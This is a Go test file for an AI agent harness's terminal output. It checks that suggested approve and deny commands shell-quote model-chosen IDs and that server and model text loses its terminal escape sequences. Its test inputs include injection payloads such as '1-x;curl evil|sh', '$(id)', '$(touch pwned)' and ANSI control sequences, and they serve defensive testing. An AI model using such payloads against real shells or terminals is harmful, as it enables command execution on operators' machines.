package tell_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/seed-7cc7a084/harness/drive"
	"github.com/seed-7cc7a084/harness/facts"
	"github.com/seed-7cc7a084/harness/fold"
	"github.com/seed-7cc7a084/harness/harness"
	"github.com/seed-7cc7a084/harness/present/tell"
)

// The suggested commands quote what the model chose (a call id), so that
// pasting one runs that command and nothing else.
func TestAnswerHintQuotesIDs(t *testing.T) {
	for _, tc := range []struct {
		p    drive.Pending
		want string
	}{
		{drive.Pending{Wait: fold.Wait{Kind: fold.WaitConfirmation, RequestID: "1-call_1"}},
			"answer: harness approve t1 1-call_1 --resume   (or: harness deny t1 1-call_1 --reason '…' --resume)"},
		{drive.Pending{Wait: fold.Wait{Kind: fold.WaitConfirmation, RequestID: "1-x;curl evil|sh"}},
			"answer: harness approve t1 '1-x;curl evil|sh' --resume   (or: harness deny t1 '1-x;curl evil|sh' --reason '…' --resume)"},
		{drive.Pending{Wait: fold.Wait{Kind: fold.WaitConfirmation, RequestID: "1-it's $(id)"}},
			`answer: harness approve t1 '1-it'\''s $(id)' --resume   (or: harness deny t1 '1-it'\''s $(id)' --reason '…' --resume)`},
		{drive.Pending{Wait: fold.Wait{Kind: fold.WaitReconcile, RequestID: "1-w"}},
			`settle: harness post t1 effect.reconciled --data '{"action_id": "1-w", "decision": "accept"}' --resume   (accept, retry or abandon)`},
		{drive.Pending{Wait: fold.Wait{Kind: fold.WaitReconcile, RequestID: `1-a"b'c`}},
			`settle: harness post t1 effect.reconciled --data '{"action_id": "1-a\"b'\''c", "decision": "accept"}' --resume   (accept, retry or abandon)`},
	} {
		require.Equal(t, tc.want, tell.AnswerHint("t1", tc.p))
	}
}

// The terminal says a server's question as the server's, escaped: its
// message, its fields (a secret marked) and how to answer; no control
// sequence of the server's reaches the terminal.
func TestWriteAskedEscapes(t *testing.T) {
	var b strings.Builder
	tell.WriteAsked(&b, drive.Event{Kind: drive.EventAsked, Thread: "t1", ActionID: "1-a", Request: "1-a-e1",
		Text: "\x1b]0;pwned\x07Who\nare you?\x1b[2J",
		Elicit: &facts.Elicit{ActionID: "1-a", Server: "evil\x1b[31m", Sensitive: []string{"pass\x1b[0m"},
			Schema: facts.RawJSON(`{"type":"object","required":["name"],"properties":{"name":{"type":"string","title":"\u001b[2JName"},"pass\u001b[0m":{"type":"string"},"color":{"type":"string","enum":["red","blue"]}}}`)}})
	out := b.String()
	require.NotContains(t, out, "\x1b")
	require.NotContains(t, out, "\x07")
	require.Contains(t, out, "the MCP server evil")
	require.Contains(t, out, "its words, not harness's")
	require.Contains(t, out, "field name (string, required)")
	require.Contains(t, out, "field color (string, one of red | blue)")
	require.Contains(t, out, "looks like a secret")
	require.Contains(t, out, "harness answer t1 --request 1-a-e1 --elicit accept")
	require.Equal(t, 7, strings.Count(out, "\n"), "one line each: the header, the message, three fields, the secret, how to answer: %q", out)
}

// The command the terminal suggests is safe to paste: the server names
// its fields and the model its call (in the request id), so each is one
// quoted word, never a command substitution the person's shell would
// run; a secret is read from stdin (NAME=-), off the command line other
// users' processes can read.
func TestWriteAskedHintIsPastable(t *testing.T) {
	var b strings.Builder
	tell.WriteAsked(&b, drive.Event{Kind: drive.EventAsked, Thread: "t1", ActionID: "1-a$(id)", Request: "1-a$(id)-e1",
		Text: "Who?", Elicit: &facts.Elicit{ActionID: "1-a$(id)", Server: "s", Sensitive: []string{"password"},
			Schema: facts.RawJSON(`{"type":"object","properties":{"a$(touch pwned)":{"type":"string"},"password":{"type":"string"}}}`)}})
	out := b.String()
	require.Contains(t, out, `--request '1-a$(id)-e1'`)
	require.Contains(t, out, `--field 'a$(touch pwned)'=…`)
	require.Contains(t, out, `--field password=-`)
	require.NotContains(t, out, "--field password=…")
}

// A parked thread is told with what it waits for, each request with the
// command that answers it; what the model wrote (a tool name, arguments,
// a question) reaches the writer escaped, and paint colours only the
// harness's own words.
func TestTellerStateEscapesAndHints(t *testing.T) {
	var b strings.Builder
	paint := func(color, s string) string { return "<" + color + ">" + s + "</>" }
	st := drive.State{Thread: "t1", Status: "parked", Waits: []drive.Pending{
		{Wait: fold.Wait{Kind: fold.WaitConfirmation, RequestID: "1-x;rm"}, Tool: "evil\x1b[2J", Args: `{"path":"a\u001b]0;t\u0007"}`, Reason: "loop\nguard"},
		{Wait: fold.Wait{Kind: fold.WaitQuestion, RequestID: "2-q", Summary: "Which\x1b[31m?"}, Options: []string{"a", "b\x07"}, AllowFreeText: true},
	}}
	st.Head.Seq = 7
	tell.Teller{W: &b, Paint: paint}.State(st, t.TempDir())
	out := b.String()
	require.NotContains(t, out, "\x1b")
	require.NotContains(t, out, "\x07")
	require.Contains(t, out, "<yellow>parked:</> thread t1 waits for a person (seq 7)\n")
	require.Contains(t, out, `  confirmation 1-x;rm: evil\x1b[2J {"path":"a\u001b]0;t\u0007"}`)
	require.Contains(t, out, "<yellow>asked because</> loop")
	require.Contains(t, out, "answer: harness approve t1 '1-x;rm' --resume")
	require.Contains(t, out, `  question 2-q: Which\x1b[31m?`)
	require.Contains(t, out, "(or any answer)")
	require.Contains(t, out, "answer: harness answer t1 '…' --resume")
}

// A done thread says its turns and tokens, and what they cost, or that
// its model has no price; a thread a budget stopped says how to go on.
func TestTellerStateUsageAndGoOn(t *testing.T) {
	st := drive.State{Thread: "t1", Status: "done", Model: "openai:x\x1b[2J", Cost: &drive.Cost{UnpricedTurns: 2}}
	st.Head.Seq = 9
	st.View.Budget = &harness.BudgetView{Turns: 2, Tokens: 1500}
	require.Equal(t, `2 model turns, 1500 tokens (no price for openai:x\x1b[2J in the price table: tokens only)`, tell.Usage(st))
	st.Cost = &drive.Cost{USD: 0.0123, Tables: []string{"v1"}}
	var b strings.Builder
	tell.Teller{W: &b}.State(st, "")
	require.Equal(t, "done: thread t1 (seq 9) · 2 model turns, 1500 tokens, $0.01\n", b.String())

	st.View.Budget = &harness.BudgetView{Turns: 1}
	require.Equal(t, "1 model turn", tell.Usage(st))

	stopped := drive.State{Thread: "t1", Status: harness.StatusStopped}
	stopped.Head.Seq, stopped.Head.Kind = 12, facts.KindBudgetExhausted
	require.Equal(t, "to go on: harness fork t1 --at 11, then harness resume t1-at11 --max-turns 100", tell.GoOnHint(stopped, 50))
	stopped.View.Budget = &harness.BudgetView{MaxTurns: 7}
	require.Contains(t, tell.GoOnHint(stopped, 50), "--max-turns 14")
	stopped.Head.Kind = facts.KindThreadStopped
	require.Empty(t, tell.GoOnHint(stopped, 50))
}

// ShellWord quotes whatever a shell would read as more than one plain
// word.
func TestShellWord(t *testing.T) {
	for in, want := range map[string]string{
		"t1": "t1", "a/b.c:d@e%f+g=h,i-j": "a/b.c:d@e%f+g=h,i-j",
		"": "''", "a b": "'a b'", "$(id)": "'$(id)'", "it's": `'it'\''s'`, "a\nb": "'a\nb'",
	} {
		require.Equal(t, want, tell.ShellWord(in), "%q", in)
	}
}
